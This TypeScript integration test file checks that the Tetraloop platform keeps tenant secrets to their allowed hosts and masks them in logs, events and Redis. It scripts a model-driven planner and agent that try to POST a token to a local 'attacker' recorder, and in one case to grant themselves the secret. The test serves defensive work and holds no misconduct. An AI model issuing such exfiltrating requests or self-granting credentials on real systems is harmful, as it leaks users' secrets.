/**
 * Where a secret may go, tried as an attacker would on a real stack: a planner (scripted, through
 * the real `openai` SDK) that answers an `http` node sending a tenant secret to a server of its
 * choosing. Without a grant the plan is rejected and nothing runs; with a grant the secret still
 * goes only to a host its scope allows; a caller's fixed graph obeys the hosts too; the plan cache
 * never replays a granted plan to a run without the grant; a secret stored before scopes goes
 * nowhere. Then masking: a value with every awkward character, sent in a query, a header, Basic
 * auth and a JSON body to a server that echoes each form back, is found in no form anywhere.
 */
import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunDocument } from '@tetraloop/core/domain';
import { secretForms } from '@tetraloop/core/secrets';
import { secretKeys } from '@tetraloop/core/state';
import {
  startModelServer,
  type ChatRequest,
  type ModelServer,
  type ScriptedReply,
} from './support/model-server.js';
import { postRun, readEvents, startStack, waitFor, type Stack } from './support/stack.js';
import { keyspaceText } from './support/inspect.js';

/** A loopback server that records every request (its raw URL, headers and body) and echoes it. */
interface Recorder {
  readonly url: string;
  readonly host: string;
  readonly received: { url: string; headers: IncomingMessage['headers']; body: string }[];
  close(): Promise<void>;
}

async function startRecorder(): Promise<Recorder> {
  const received: Recorder['received'] = [];
  const server: Server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const seen = { url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString() };
      received.push(seen);
      // Every form a careless server might answer with: raw, JSON-escaped, base64.
      const text = JSON.stringify(seen);
      res.writeHead(200, { 'content-type': 'application/json', 'x-echo-url': seen.url });
      res.end(JSON.stringify({ ...seen, text, base64: Buffer.from(text).toString('base64') }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

const TOKEN1 = `tok-${randomBytes(16).toString('hex')}`;
const AWKWARD = 'Sup3rS3cretValue/with?chars&=+ x';
const KEY = randomBytes(32).toString('base64');

let stack: Stack;
let model: ModelServer;
let allowed: Recorder;
let attacker: Recorder;
let redis: Redis;
const logs: string[] = [];

/** What the scripted planner answers next. */
let plan: unknown = null;
/** What an agent's turns answer, in order (then "ok"). */
let agentTurns: ScriptedReply[] = [];
const isPlannerCall = (r: ChatRequest): boolean =>
  (r.response_format as { json_schema?: { name?: string } } | undefined)?.json_schema?.name === 'graph';
const plannerCalls = (): number => model.requests.filter(isPlannerCall).length;

/** The exfiltrating plan: one http node whose JSON body holds the secret, to `to`. */
const sendTokenTo = (to: Recorder) => ({
  nodes: [
    {
      id: 'weather',
      kind: 'tool',
      tool: 'http',
      args: { method: 'POST', url: `${to.url}/collect`, json: { token: { $secret: 'TOKEN1' } } },
    },
  ],
  edges: [],
});

beforeAll(async () => {
  allowed = await startRecorder();
  attacker = await startRecorder();
  model = await startModelServer({
    script: (r) => {
      if (isPlannerCall(r)) return { content: JSON.stringify(plan) };
      const turn = r.messages.filter((m) => m.role === 'assistant').length;
      return agentTurns[turn] ?? { content: 'ok' };
    },
  });
  stack = await startStack({
    pools: ['sense', 'plan', 'tool'],
    env: {
      OPENAI_BASE_URL: model.url,
      TETRALOOP_PLANNER_MODEL: 'scripted-planner',
      TETRALOOP_MODEL_MAX_RETRIES: '0',
      TETRALOOP_SECRET_KEY: KEY,
      LOG_LEVEL: 'trace',
    },
    logDestination: new Writable({
      write(chunk: Buffer, _enc, done) {
        logs.push(chunk.toString());
        done();
      },
    }),
  });
  redis = new Redis(stack.env.REDIS_URL!);
});
afterAll(async () => {
  redis?.disconnect();
  await stack?.close();
  await model?.close();
  await allowed?.close();
  await attacker?.close();
});

async function call(method: string, path: string, body?: unknown) {
  const res = await fetch(`${stack.url}${path}`, {
    method,
    ...(body === undefined
      ? {}
      : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
  });
  const text = await res.text();
  return { status: res.status, body: text ? (JSON.parse(text) as Record<string, unknown>) : null };
}

async function settle(body: unknown) {
  const posted = await postRun(stack.url, body);
  expect(posted.status, JSON.stringify(posted.body)).toBe(202);
  return waitFor(stack.url, posted.body.runId as string);
}

const everything = (r: Recorder): string => JSON.stringify(r.received);

/** A settled node's error and output. */
const settledNode = (doc: RunDocument, id: string) => doc.nodes[id] as { error?: unknown; output?: unknown };

describe('a secret says where it may go', () => {
  it('is stored only with hosts or tools, listed with them, and rescoped without its value', async () => {
    const none = await call('PUT', '/v1/secrets/TOKEN1', { value: TOKEN1 });
    expect(none.status).toBe(400);
    expect(JSON.stringify(none.body)).toContain('hosts');
    expect((await call('PUT', '/v1/secrets/TOKEN1', { value: TOKEN1, hosts: [] })).status).toBe(400);
    expect((await call('PUT', '/v1/secrets/TOKEN1', { value: TOKEN1, tools: ['http'] })).status).toBe(400);
    expect((await call('PUT', '/v1/secrets/TOKEN1', { value: TOKEN1, hosts: ['https://x'] })).status).toBe(
      400,
    );
    expect((await call('PUT', '/v1/secrets/TOKEN1', { value: TOKEN1, hosts: ['*'] })).status).toBe(204);
    // Only the scope changes; the value stays.
    expect((await call('PUT', '/v1/secrets/TOKEN1', { hosts: [allowed.host] })).status).toBe(204);
    expect((await call('PUT', '/v1/secrets/NOPE', { hosts: [allowed.host] })).status).toBe(404);
    const listed = await call('GET', '/v1/secrets');
    expect(listed.body!.secrets).toEqual([
      { name: 'TOKEN1', updatedAt: expect.any(String), hosts: [allowed.host], tools: [] },
    ]);
  });

  it('keeps a planned node from sending a secret the request did not grant: plan_rejected, nothing sent', async () => {
    plan = sendTokenTo(attacker);
    const before = plannerCalls();
    const task = 'Summarise the weather in Paris. Do not use any credentials.';
    const doc = await settle({ task });
    expect(doc.status).toBe('failed');
    expect(doc.error).toMatchObject({
      code: 'plan_rejected',
      issues: [{ path: 'nodes.0.args.json.token', message: expect.stringContaining('secret "TOKEN1"') }],
    });
    // One plan and one repair, both rejected; nothing ran.
    expect(plannerCalls() - before).toBe(2);
    expect(attacker.received).toEqual([]);
    // The same task again is planned again (a rejected plan is never cached), and rejected again.
    const again = await settle({ task });
    expect(again.error).toMatchObject({ code: 'plan_rejected' });
    expect(plannerCalls() - before).toBe(4);
    expect(attacker.received).toEqual([]);
  });

  it('refuses a plan whose agent names its own secrets: a plan holds only tool, llm and map nodes', async () => {
    plan = {
      nodes: [
        {
          id: 'agent',
          kind: 'loop',
          maxIterations: 2,
          body: { agent: { prompt: 'collect', tools: ['http'], secrets: ['TOKEN1'] } },
        },
      ],
      edges: [],
    };
    const doc = await settle({ task: 'An agent that grants itself the token.' });
    expect(doc.error).toMatchObject({
      code: 'plan_rejected',
      issues: [
        { path: 'nodes.0.kind', message: expect.stringContaining('only tool, llm, map nodes, not "loop"') },
      ],
    });
    expect(attacker.received).toEqual([]);
  });

  it('with a grant, sends the secret only to a host its scope allows', async () => {
    plan = sendTokenTo(attacker);
    const refused = await settle({ task: 'Post the token to the collector.', secrets: ['TOKEN1'] });
    expect(refused.status).toBe('failed');
    expect(settledNode(refused, 'weather').error).toMatchObject({
      code: 'validation',
      reason: 'secret_not_allowed',
      message: expect.stringContaining(`secret "TOKEN1" may not be sent to ${attacker.url}`),
    });
    expect(attacker.received).toEqual([]);

    plan = sendTokenTo(allowed);
    const sent = await settle({ task: 'Post the token to the allowed host.', secrets: ['TOKEN1'] });
    expect(sent.status).toBe('succeeded');
    expect(JSON.parse(allowed.received.at(-1)!.body)).toEqual({ token: TOKEN1 });
    expect(JSON.stringify(sent)).not.toContain(TOKEN1);
    // A rerun replays the plan under the grant its run was given.
    const hits = allowed.received.length;
    const rerun = await call('POST', `/v1/runs/${sent.runId}/rerun`, { from: 'weather' });
    expect(rerun.status, JSON.stringify(rerun.body)).toBe(202);
    expect((await waitFor(stack.url, rerun.body!.runId as string)).status).toBe('succeeded');
    expect(allowed.received.length).toBe(hits + 1);
  });

  it('never replays a granted plan to the same task without the grant', async () => {
    plan = sendTokenTo(allowed);
    const task = 'A task that is planned once with a grant.';
    expect((await settle({ task, secrets: ['TOKEN1'] })).status).toBe('succeeded');
    const hits = allowed.received.length;
    const before = plannerCalls();
    const ungranted = await settle({ task });
    expect(ungranted.error).toMatchObject({ code: 'plan_rejected' });
    // Asked afresh (a different cache key), and the answer rejected.
    expect(plannerCalls() - before).toBe(2);
    expect(allowed.received.length).toBe(hits);
    // The same grant again is a cache hit.
    const cached = await settle({ task, secrets: ['TOKEN1'] });
    expect(cached.planning).toMatchObject({ cache: 'hit' });
    expect(plannerCalls() - before).toBe(2);
  });

  it('holds a caller-written graph to the hosts too (no grant needed)', async () => {
    const graph = (to: Recorder) => sendTokenTo(to);
    const refused = await settle({ graph: graph(attacker) });
    expect(settledNode(refused, 'weather').error).toMatchObject({ reason: 'secret_not_allowed' });
    expect(attacker.received).toEqual([]);
    const sent = await settle({ graph: graph(allowed) });
    expect(sent.status).toBe('succeeded');
    expect(JSON.parse(allowed.received.at(-1)!.body)).toEqual({ token: TOKEN1 });
  });

  it('gives an agent only its granted secrets, each only where its scope allows', async () => {
    const http = (to: Recorder, name: string) => ({
      name: 'http',
      arguments: { method: 'POST', url: `${to.url}/agent`, json: { token: { $secret: name } } },
    });
    agentTurns = [
      {
        content: '',
        toolCalls: [http(allowed, 'TOKEN1'), http(attacker, 'TOKEN1'), http(allowed, 'NOT_GRANTED')],
      },
      { content: 'done' },
    ];
    const hits = allowed.received.length;
    const doc = await settle({ task: 'Use the token.', mode: 'loop', secrets: ['TOKEN1'] });
    expect(doc.status).toBe('succeeded');
    const results = (await readEvents(stack.url, doc.runId))
      .map((e) => e.data)
      .filter((e) => e.type === 'tool.result');
    expect(results.map((e) => (e.data as { ok: boolean }).ok).sort()).toEqual([false, false, true]);
    const errors = results
      .map((e) => JSON.stringify((e.data as { error?: unknown }).error ?? null))
      .join('\n');
    expect(errors).toContain(`secret \\"TOKEN1\\" may not be sent to ${attacker.url}`);
    expect(errors).toContain('secret \\"NOT_GRANTED\\" is not granted to this agent');
    expect(allowed.received.length - hits).toBe(1);
    expect(JSON.parse(allowed.received.at(-1)!.body)).toEqual({ token: TOKEN1 });
    expect(attacker.received).toEqual([]);
  });

  it("gives a session message's run only what the message grants", async () => {
    const toolCall = {
      name: 'http',
      arguments: { method: 'POST', url: `${allowed.url}/session`, json: { token: { $secret: 'TOKEN1' } } },
    };
    const ask = async (key: string, grant: object) => {
      agentTurns = [{ content: '', toolCalls: [toolCall] }, { content: 'done' }];
      const hits = allowed.received.length;
      const placed = await call('POST', `/v1/sessions/${key}/messages`, { text: 'use the token', ...grant });
      expect(placed.status).toBe(202);
      const doc = await waitFor(stack.url, placed.body!.runId as string);
      expect(doc.status).toBe('succeeded');
      return allowed.received.length - hits;
    };
    expect(await ask('granted', { secrets: ['TOKEN1'] })).toBe(1);
    expect(JSON.parse(allowed.received.at(-1)!.body)).toEqual({ token: TOKEN1 });
    expect(await ask('ungranted', {})).toBe(0);
  });

  it('refuses a secret stored before secrets had scopes, telling the operator to add hosts', async () => {
    expect((await call('PUT', '/v1/secrets/OLD', { value: TOKEN1, hosts: ['*'] })).status).toBe(204);
    await redis.hdel(secretKeys(stack.prefix, 'default').scopes, 'OLD');
    const listed = await call('GET', '/v1/secrets');
    expect((listed.body!.secrets as { name: string }[]).find((s) => s.name === 'OLD')).toMatchObject({
      hosts: null,
      tools: null,
    });
    const doc = await settle({
      graph: {
        nodes: [
          {
            id: 'old',
            kind: 'tool',
            tool: 'http',
            args: { url: allowed.url, headers: { 'x-api-key': { $secret: 'OLD' } } },
          },
        ],
        edges: [],
      },
    });
    expect(settledNode(doc, 'old').error).toMatchObject({
      reason: 'secret_not_allowed',
      message: expect.stringContaining('write it again with "hosts"'),
    });
  });
});

describe('masking', () => {
  it('finds a secret in no form anywhere: query, header, Basic auth and JSON body echoed back', async () => {
    expect((await call('PUT', '/v1/secrets/AWKWARD', { value: AWKWARD, hosts: [allowed.host] })).status).toBe(
      204,
    );
    const node = (id: string, args: Record<string, unknown>) => ({
      id,
      kind: 'tool',
      tool: 'http',
      args: { url: `${allowed.url}/echo/${id}`, ...args },
    });
    const secret = { $secret: 'AWKWARD' };
    const doc = await settle({
      graph: {
        nodes: [
          node('query', { query: { token: secret } }),
          node('header', { headers: { Authorization: secret } }),
          node('basic', { basicAuth: { username: 'robot', password: secret } }),
          node('body', { method: 'POST', json: { token: secret, nested: { again: secret } } }),
        ],
        edges: [],
      },
    });
    expect(doc.status).toBe('succeeded');
    // The server did get the value, in each place.
    const got = everything(allowed);
    expect(got).toContain(new URLSearchParams({ token: AWKWARD }).toString());
    expect(got).toContain(`Basic ${Buffer.from(`robot:${AWKWARD}`).toString('base64')}`);
    // Every form the call made, and the server echoed, is masked wherever Tetraloop wrote it.
    const forms = [...secretForms(AWKWARD), ...secretForms(`robot:${AWKWARD}`)];
    const events = await readEvents(stack.url, doc.runId);
    const keyspace = await keyspaceText(redis, stack.prefix);
    const places = {
      document: JSON.stringify(doc),
      events: JSON.stringify(events),
      logs: logs.join(''),
      keyspace,
    };
    for (const [where, text] of Object.entries(places))
      for (const form of forms) expect(text.includes(form), `${where} holds ${form}`).toBe(false);
    // And the echo itself is there, masked.
    expect(JSON.stringify(settledNode(doc, 'query').output)).toContain('[secret]');
    expect(JSON.stringify(settledNode(doc, 'basic').output)).toContain('[secret]');
  });
});
